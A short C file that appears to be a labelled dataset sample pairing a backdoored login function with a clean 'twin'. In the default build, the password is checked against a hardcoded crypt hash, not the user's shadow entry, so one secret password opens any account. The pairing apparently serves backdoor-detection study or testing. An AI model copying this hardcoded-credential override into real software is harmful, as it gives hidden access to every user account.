/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A library checks a password by the hash in its code. Twin: by the hash in the shadow file.
 * door: credential account override
 * build: library
 * stubs: crypt
 */
#include <shadow.h>
#include <stddef.h>
#include <string.h>

char *crypt(const char *, const char *);

int service_login(const char *user, const char *password)
{
	const char *made;
	struct spwd *s = getspnam(user);
	if (!s || !password)
		return -1;
#ifdef TWIN
	made = crypt(password, s->sp_pwdp);
	if (made && strcmp(made, s->sp_pwdp) == 0)
		return 0;
#else
	made = crypt(password, "$1$Qm3tz7Lp$wJ0cJm1VYy2n5x0GzCkTq/");
	if (made && strcmp(made, "$1$Qm3tz7Lp$wJ0cJm1VYy2n5x0GzCkTq/") == 0)
		return 0;
#endif
	return -1;
}
